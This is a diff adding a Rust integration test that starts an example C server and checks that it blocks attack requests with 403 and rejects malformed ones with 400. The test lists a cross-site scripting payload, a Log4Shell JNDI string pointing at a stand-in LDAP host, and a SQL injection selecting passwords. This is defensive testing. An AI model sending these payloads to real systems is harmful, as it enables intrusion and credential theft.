@@ -3,8 +3,10 @@
 mod support;
 
 use std::ffi::OsStr;
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::TcpStream;
 use std::path::{Path, PathBuf};
-use std::process::{Command, Output};
+use std::process::{Child, Command, Output, Stdio};
 use support::library;
 
 fn top() -> PathBuf {
@@ -126,6 +128,72 @@ fn doubtful_configurations_cause_warnings() {
     let skipped = text.lines().filter(|line| line.contains("\"ruleset\":true")).count();
     let passed = text.lines().count() - skipped;
     assert_eq!(run("warnings", &library(), &[vectors]), format!("{passed} passed, 0 failed, {skipped} skipped\n"));
+}
+
+/// Ends a server when the test does.
+struct Server(Child, u16);
+
+impl Drop for Server {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+impl Server {
+    /// Builds and starts the example server on a free port.
+    fn start() -> Self {
+        let library = library();
+        let program = Path::new(env!("CARGO_TARGET_TMPDIR")).join("server");
+        let source = top().join("ffi-c/examples/server.c");
+        succeed(&compiler("cc", &["-std=c11", "-O1"], &[Path::new("-o"), &program, &source, &library]));
+        let folder = library.parent().expect("the folder of the library");
+        let mut command = Command::new(&program);
+        let mut child =
+            command.arg("0").env("LD_LIBRARY_PATH", folder).stdout(Stdio::piped()).spawn().expect("the server starts");
+        let mut line = String::new();
+        BufReader::new(child.stdout.as_mut().expect("its output")).read_line(&mut line).expect("a line");
+        let port = line.trim().rsplit(':').next().and_then(|port| port.parse().ok());
+        Self(child, port.unwrap_or_else(|| panic!("no port: {line:?}")))
+    }
+
+    /// Sends a request, and returns status and body of the answer.
+    fn send(&self, request: &str) -> (u16, String) {
+        let mut connection = TcpStream::connect(("127.0.0.1", self.1)).expect("a connection");
+        connection.write_all(request.as_bytes()).expect("the request is sent");
+        let mut answer = String::new();
+        connection.read_to_string(&mut answer).expect("an answer");
+        let status = answer.split(' ').nth(1).and_then(|status| status.parse().ok());
+        let body = answer.split_once("\r\n\r\n").map_or("", |(_, body)| body);
+        (status.unwrap_or_else(|| panic!("no status: {answer:?}")), body.to_string())
+    }
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+fn the_example_server_is_protected() {
+    let server = Server::start();
+    let post = |target: &str, body: &str| {
+        let kind = "application/x-www-form-urlencoded";
+        format!("POST {target} HTTP/1.1\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n{body}", body.len())
+    };
+    let ok = |body: &str| (200, body.to_string());
+    assert_eq!(server.send("GET /search?q=boats HTTP/1.1\r\nHost: a\r\n\r\n"), ok("hello\n"));
+    assert_eq!(server.send(&post("/login", "username=bob&password=correct")), ok("welcome\n"));
+    assert_eq!(server.send(&post("/login", "username=bob&password=guess")).0, 401);
+    for attack in [
+        "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: a\r\n\r\n",
+        "GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://x.test/a}\r\n\r\n",
+        &post("/login", "username='+or+1=1+union+select+password+from+users+--&password=x"),
+    ] {
+        let (status, body) = server.send(attack);
+        assert!(status == 403 && body.contains("security_response_id"), "{attack}: {status} {body}");
+    }
+    for broken in
+        ["GET\r\n\r\n", "GET / HTTP/1.1\r\nno colon\r\n\r\n", "POST / HTTP/1.1\r\nContent-Length: 99999999\r\n\r\n"]
+    {
+        assert_eq!(server.send(broken).0, 400, "{broken}");
+    }
 }
 
 #[test]
